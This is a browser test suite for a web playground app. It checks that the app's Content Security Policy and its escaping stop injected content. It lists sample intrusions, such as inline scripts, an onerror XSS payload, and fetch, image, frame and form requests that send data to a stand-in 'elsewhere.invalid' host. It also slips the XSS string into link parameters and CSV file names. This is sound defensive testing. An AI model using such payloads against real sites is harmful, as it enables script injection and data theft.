import { link, open, Playground, SMALL } from "./support/playground";
import { expect, test } from "./support/test";

declare global {
  interface Window {
    /** Set by whatever a test has tried to bring in. */
    ran?: string;
    refused: string[];
  }
}

const PAGES = ["index.html", "embed.html", "measure.html"];

test("a whole visit asks nobody but the site, and nothing of it is refused", async ({ page }) => {
  const asked: string[] = [];
  page.on("request", (request) => asked.push(new URL(request.url()).origin));
  await page.addInitScript(() => {
    window.refused = [];
    addEventListener("securitypolicyviolation", ({ blockedURI }) => window.refused.push(blockedURI));
  });
  const playground = await open(page, { ...SMALL, algorithms: "np,danp" }, "index.html");
  await playground.untilDone(); // it begins by itself
  await playground.openAll();
  const dialog = playground.host.getByRole("dialog");
  await page.keyboard.press("?");
  await expect(dialog).toBeVisible();
  await page.keyboard.press("Escape");
  await expect(dialog).toHaveCount(0);
  await playground.button("Share").click();
  await expect(dialog).toBeVisible();
  await page.keyboard.press("Escape");
  await expect(page.locator("np-confusion, np-weights").first()).toBeVisible();
  expect(await page.evaluate(() => window.refused)).toEqual([]);
  for (const other of PAGES.slice(1)) {
    await page.goto(other);
    expect(await page.evaluate(() => window.refused), other).toEqual([]);
  }
  expect(asked.length).toBeGreaterThan(20);
  expect(new Set(asked)).toEqual(new Set([new URL(page.url()).origin]));
});

/** What an intruder would do, and the line of the policy that forbids it. */
const INTRUSIONS: Record<string, { line: string; intrude: () => void }> = {
  "an inline script": {
    line: "script-src-elem",
    intrude: () => {
      const script = document.createElement("script");
      script.textContent = 'window.ran = "inline script"';
      document.body.append(script);
    },
  },
  "a handler in HTML": {
    line: "script-src-attr",
    intrude: () =>
      document.body.insertAdjacentHTML("beforeend", `<img src="data:," onerror="ran = 'handler'">`),
  },
  "a script from elsewhere": {
    line: "script-src-elem",
    intrude: () => {
      const script = document.createElement("script");
      script.src = "https://elsewhere.invalid/script.js";
      document.body.append(script);
    },
  },
  "words that become a script": {
    line: "script-src",
    intrude: () => {
      setTimeout('window.ran = "words"');
    },
  },
  "a request to elsewhere": {
    line: "connect-src",
    intrude: () => void fetch("https://elsewhere.invalid/?what=was-drawn").catch(() => {}),
  },
  "a picture that tells elsewhere": {
    line: "img-src",
    intrude: () => {
      new Image().src = "https://elsewhere.invalid/picture.png";
    },
  },
  "a frame": {
    line: "frame-src",
    intrude: () => document.body.insertAdjacentHTML("beforeend", '<iframe src="https://elsewhere.invalid/">'),
  },
  "a form": {
    line: "form-action",
    intrude: () => {
      document.body.insertAdjacentHTML("beforeend", '<form action="https://elsewhere.invalid/"></form>');
      document.querySelector("form")?.submit();
    },
  },
  "another base for every address": {
    line: "base-uri",
    intrude: () => document.head.insertAdjacentHTML("beforeend", '<base href="https://elsewhere.invalid/">'),
  },
};

test.describe("what is brought in", () => {
  test.use({ provokes: true });

  for (const path of PAGES) {
    test(`does not run on ${path}, and tells nobody`, async ({ page }) => {
      const foreign: string[] = [];
      page.on("requestfinished", (request) => foreign.push(request.url()));
      page.on("requestfailed", (request) => {
        if (request.failure()?.errorText !== "csp") foreign.push(request.url());
      });
      await page.goto(path);
      for (const [what, { line, intrude }] of Object.entries(INTRUSIONS)) {
        await page.evaluate(() => {
          window.refused = [];
          const note = ({ effectiveDirective }: SecurityPolicyViolationEvent) =>
            window.refused.push(effectiveDirective);
          addEventListener("securitypolicyviolation", note, { once: true });
        });
        await page.evaluate(intrude);
        await expect.poll(() => page.evaluate(() => window.refused), { message: what }).toEqual([line]);
      }
      expect(await page.evaluate(() => window.ran)).toBeUndefined();
      expect(foreign.filter((url) => url.includes("elsewhere.invalid"))).toEqual([]);
    });
  }
});

const TAG = "<img src=x onerror=ran=1>name";

test("what a link says stays text", async ({ page }) => {
  await page.goto(`embed.html#${link({ ...SMALL, lr: TAG, [TAG]: TAG })}`);
  const playground = new Playground(page);
  await expect(playground.notice.filter({ hasText: TAG }).first()).toBeVisible();
  await expect(page.locator("img[onerror]")).toHaveCount(0);
});

test("names of files and classes stay text", async ({ page }) => {
  const playground = await open(page, SMALL);
  await playground.openAll();
  const rows = Array.from({ length: 40 }, (_, i) => `${i % 2 ? TAG : "other"},${i},9,3,7`);
  const file = {
    name: `${TAG}.csv`,
    mimeType: "text/csv",
    buffer: Buffer.from(rows.join("\n")),
  };
  await playground.host.locator('input[type="file"]').first().setInputFiles([file]);
  await expect(page.getByText(TAG).first()).toBeVisible();
  await expect(page.locator("img[onerror]")).toHaveCount(0);
});
